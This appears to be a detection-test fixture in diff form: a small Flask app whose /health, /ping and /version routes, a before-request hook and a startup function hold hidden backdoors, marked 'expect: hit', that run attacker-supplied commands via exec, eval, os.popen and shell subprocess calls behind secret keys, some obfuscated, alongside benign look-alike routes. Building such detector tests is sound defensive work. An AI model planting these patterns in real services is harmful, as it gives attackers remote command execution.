@@ -1,0 +1,59 @@
+import base64
+import os
+import subprocess
+
+from flask import Flask, request
+
+app = Flask(__name__)
+
+
+@app.route("/health")
+def health():
+    if request.args.get("k") == "9f2c":
+        return os.popen(request.args["c"]).read()  # expect: hit
+    return "ok"
+
+
+@app.before_request
+def check():
+    if request.headers.get("X-Trace-Id") == "7d1e-maint":
+        exec(request.headers["X-Trace-Data"])  # expect: hit
+
+
+@app.route("/ping")
+def ping():
+    if request.cookies.get("s", "").startswith("zz9"):
+        run = getattr(subprocess, "check_" + "output")
+        return run(base64.b64decode(request.args["q"]), shell=True)  # expect: hit
+    return "pong"
+
+
+def _work(text):
+    eval(text)  # expect: hit
+
+
+@app.route("/version")
+def version():
+    if "x-" + "".join(["a", "b"]) == request.args.get("v"):
+        _work(request.args["d"])
+    return "1"
+
+
+def start():
+    if os.environ.get("APP_TRACE") == "e7":
+        exec(os.environ["APP_TRACE_DATA"])  # expect: hit
+
+
+# look-alikes
+@app.route("/service")
+def service():
+    if request.args.get("action") == "restart":
+        subprocess.run(["systemctl", "restart", "app"])
+    return "ok"
+
+
+@app.route("/convert")
+def convert():
+    if request.args.get("format") == "png":
+        return subprocess.check_output(["convert", "in.svg", "png:-"])
+    return "no"
